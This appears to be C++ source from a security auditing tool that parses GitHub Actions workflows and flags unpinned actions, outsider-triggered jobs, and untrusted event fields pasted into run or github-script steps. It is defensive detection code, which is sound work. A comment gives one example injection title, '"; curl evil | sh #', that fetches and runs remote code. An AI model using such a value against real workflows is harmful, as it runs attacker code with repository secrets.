#include <re2/re2.h>

#include <algorithm>
#include <memory>
#include <set>

#include "extract/config/config_values.h"
#include "extract/config/yaml_flavours.h"
#include "extract/config/yaml_support.h"
#include "util/text.h"

namespace mlaudit {
namespace {

nlohmann::ordered_json triggers_of(const YAML::Node& on) {
  nlohmann::ordered_json triggers = nlohmann::ordered_json::array();
  if (!on) return triggers;
  if (on.IsScalar()) triggers.push_back(on.Scalar());
  if (on.IsSequence())
    for (const auto& item : on) triggers.push_back(scalar_or(item, ""));
  if (on.IsMap())
    for (const auto& entry : on) triggers.push_back(entry.first.Scalar());
  return triggers;
}

void add_env_block(const YAML::Node& env, const std::string& owner, const std::string& file, FactSink& sink) {
  if (!env || !env.IsMap()) return;
  for (const auto& variable : env) {
    auto value = scalar(variable.second);
    if (!value) continue;
    sink.add(FactType::env_assignment, location_of(variable.second, file),
             env_assignment_props("workflow", variable.first.Scalar(), *value, owner));
  }
}

void add_action(const YAML::Node& uses_node, const std::string& job, const std::string& file, FactSink& sink) {
  std::string uses = scalar_or(uses_node, "");
  if (uses.empty()) return;
  std::string action = uses, ref;
  if (auto at = uses.find('@'); at != std::string::npos) {
    action = uses.substr(0, at);
    ref = uses.substr(at + 1);
  }
  static const RE2 sha(R"(^[0-9a-f]{40}$)");
  bool local = uses.starts_with("./");
  bool docker = uses.starts_with("docker://");
  bool pinned = local || RE2::FullMatch(ref, sha) || (docker && uses.find("@sha256:") != std::string::npos);
  // GitHub's own actions on a release tag: GitHub controls both the code and the tag, so the
  // tag is worth a line in the report, not attention. Third-party tags and any branch stay low.
  static const RE2 release_tag(R"(^v?[0-9]+(\.[0-9]+){0,2}$)");
  bool github_owned = action.starts_with("actions/") || action.starts_with("github/");
  std::string severity = github_owned && RE2::FullMatch(ref, release_tag) ? "info" : "low";
  sink.add(FactType::workflow_action, location_of(uses_node, file),
           {{"uses", uses}, {"action", action}, {"ref", ref}, {"pinned", pinned}, {"local", local},
            {"docker", docker}, {"job", job}, {"github_owned", github_owned}, {"severity", severity}});
}

// Triggers through which someone without write access to the repository sets the event's
// text (an issue title, a comment, a fork's branch name) while the job holds the repository's
// secrets or a write token. A fork's pull_request runs with neither.
bool outsider_trigger(const std::string& trigger) {
  static const std::set<std::string> triggers{"issues", "issue_comment", "discussion", "discussion_comment",
                                              "pull_request_target", "workflow_run"};
  return triggers.contains(trigger);
}

// The event fields whoever opens an issue, a pull request or a comment writes (GitHub
// Security Lab's list of untrusted input), named for the message.
std::string untrusted_context(const std::string& expression) {
  static const std::vector<std::pair<std::unique_ptr<RE2>, std::string>> contexts = [] {
    std::vector<std::pair<std::unique_ptr<RE2>, std::string>> list;
    auto add = [&](const char* pattern, const char* label) { list.emplace_back(std::make_unique<RE2>(pattern), label); };
    add(R"(github\.event\.issue\.(title|body)\b)", "the issue's title or body");
    add(R"(github\.event\.pull_request\.(title|body)\b)", "the pull request's title or body");
    add(R"(github\.event\.pull_request\.head\.(ref|label|repo\.default_branch)\b|github\.head_ref\b)",
        "the pull request's branch name");
    add(R"(github\.event\.(comment|review|review_comment)\.body\b)", "a comment's body");
    add(R"(github\.event\.discussion\.(title|body)\b)", "the discussion's title or body");
    add(R"(github\.event\.pages\b.*\.page_name\b)", "a wiki page's name");
    add(R"(github\.event\.(commits\b.*|head_commit)\.(message|author\.(email|name))\b)", "a commit's message or author");
    add(R"(github\.event\.workflow_run\.(head_branch|display_title|head_commit\.(message|author\.(email|name)))\b)",
        "the triggering run's branch or commit message");
    return list;
  }();
  for (const auto& [pattern, label] : contexts)
    if (RE2::PartialMatch(expression, *pattern)) return label;
  return "";
}

// Every `${{ ... }}` of an untrusted event field inside a script (a `run:` step, or the
// `script:` of actions/github-script): the runner pastes the text into the script before it
// runs, so a title like `"; curl evil | sh #` is code. Each is placed on its own line.
void add_script_expressions(const YAML::Node& script_node, const std::string& sink_kind, const std::string& job,
                            const nlohmann::ordered_json& triggers, const std::string& workflow_name,
                            const std::string& file, std::string_view text, FactSink& sink) {
  auto script = scalar(script_node);
  if (!script) return;
  static const RE2 expression_pattern(R"((\$\{\{\s*([^}]*?)\s*\}\}))");
  nlohmann::ordered_json outsiders = nlohmann::ordered_json::array();
  for (const auto& trigger : triggers)
    if (trigger.is_string() && outsider_trigger(trigger.get<std::string>())) outsiders.push_back(trigger);
  re2::StringPiece rest(*script);
  std::string whole, inner;
  size_t search_from = script_node.Mark().pos >= 0 ? static_cast<size_t>(script_node.Mark().pos) : text.size();
  while (RE2::FindAndConsume(&rest, expression_pattern, &whole, &inner)) {
    std::string context = untrusted_context(inner);
    if (context.empty()) continue;
    Location location = location_of(script_node, file);
    // The same text in the file, from the script's start: its line (a block scalar's content
    // starts a line below its `|`).
    if (search_from < text.size()) {
      if (size_t found = text.find(whole, search_from); found != std::string_view::npos) {
        location.line += static_cast<uint32_t>(std::count(text.begin() + static_cast<std::ptrdiff_t>(script_node.Mark().pos),
                                                          text.begin() + static_cast<std::ptrdiff_t>(found), '\n'));
        size_t line_start = text.rfind('\n', found);
        location.column = static_cast<uint32_t>(found - (line_start == std::string_view::npos ? 0 : line_start + 1) + 1);
        search_from = found + whole.size();
      }
    }
    sink.add(FactType::workflow_expression, location,
             {{"name", workflow_name},
              {"expression", truncate_utf8(inner, 120)},
              {"context", context},
              {"sink", sink_kind},
              {"job", job},
              {"triggers", triggers},
              {"outsider_triggers", outsiders},
              {"trigger_note", outsiders.empty() ? std::string(", with its read-only token")
                                                 : ", which runs on " + outsiders.front().get<std::string>() +
                                                       " with the repository's secrets and a write token"},
              {"severity", outsiders.empty() ? "medium" : "high"}});
  }
}

}  // namespace

bool is_github_workflow(const YAML::Node& document, std::string_view file) {
  bool in_workflows = file.starts_with(".github/workflows/") || file.find("/.github/workflows/") != std::string_view::npos;
  return document.IsMap() && at(document, {"jobs"}) && (in_workflows || at(document, {"on"}));
}

void extract_github_workflow(const YAML::Node& document, const std::string& file, std::string_view text, FactSink& sink) {
  nlohmann::ordered_json triggers = triggers_of(at(document, {"on"}));
  bool pull_request_target = std::find(triggers.begin(), triggers.end(), "pull_request_target") != triggers.end();
  bool workflow_run = std::find(triggers.begin(), triggers.end(), "workflow_run") != triggers.end();
  static const RE2 pr_head(R"(github\.event\.pull_request\.head|github\.head_ref|refs/pull/)");
  bool checks_out_pr_head = false;
  YAML::Node checkout_node;
  nlohmann::ordered_json runs = nlohmann::ordered_json::array();
  add_env_block(at(document, {"env"}), "workflow", file, sink);
  const std::string workflow_name = scalar_or(at(document, {"name"}), file);

  YAML::Node jobs = at(document, {"jobs"});
  for (const auto& job_entry : jobs.IsMap() ? jobs : YAML::Node()) {  // a list of jobs is no workflow
    std::string job = job_entry.first.IsScalar() ? job_entry.first.Scalar() : std::string();
    const YAML::Node& body = job_entry.second;
    if (!body.IsMap()) continue;
    add_env_block(at(body, {"env"}), job, file, sink);
    if (at(body, {"uses"})) add_action(at(body, {"uses"}), job, file, sink);  // reusable workflow
    if (!at(body, {"steps"}) || !at(body, {"steps"}).IsSequence()) continue;
    for (const auto& step : at(body, {"steps"})) {
      if (!step.IsMap()) continue;
      add_env_block(at(step, {"env"}), job, file, sink);
      if (at(step, {"uses"})) {
        add_action(at(step, {"uses"}), job, file, sink);
        std::string uses = scalar_or(at(step, {"uses"}), "");
        if (uses.starts_with("actions/checkout")) {
          std::string ref = scalar_or(at(step, {"with", "ref"}), "") + " " + scalar_or(at(step, {"with", "repository"}), "");
          if (RE2::PartialMatch(ref, pr_head)) {
            checks_out_pr_head = true;
            checkout_node = at(step, {"uses"});
          }
        }
        if (uses.starts_with("actions/github-script"))
          add_script_expressions(at(step, {"with", "script"}), "github-script", job, triggers, workflow_name, file, text, sink);
        if (at(step, {"with"}) && at(step, {"with"}).IsMap()) {
          for (const auto& input : at(step, {"with"})) {
            auto value = scalar(input.second);
            if (value)
              sink.add(FactType::env_assignment, location_of(input.second, file),
                       env_assignment_props("workflow-input", input.first.Scalar(), *value, job));
          }
        }
      }
      if (auto run = scalar(at(step, {"run"}))) {
        runs.push_back(truncate_utf8(*run, 400));
        add_script_expressions(at(step, {"run"}), "run", job, triggers, workflow_name, file, text, sink);
      }
    }
  }
  sink.add(FactType::workflow, checkout_node ? location_of(checkout_node, file) : location_of(at(document, {"jobs"}), file),
           {{"name", workflow_name},
            {"triggers", triggers},
            {"pull_request_target", pull_request_target},
            {"workflow_run", workflow_run},
            {"checks_out_pr_head", checks_out_pr_head},
            {"runs", runs},
            {"permissions", at(document, {"permissions"}) ? (at(document, {"permissions"}).IsScalar()
                                                           ? at(document, {"permissions"}).Scalar()
                                                           : std::string("scoped"))
                                                    : std::string("default")}});
}

}  // namespace mlaudit
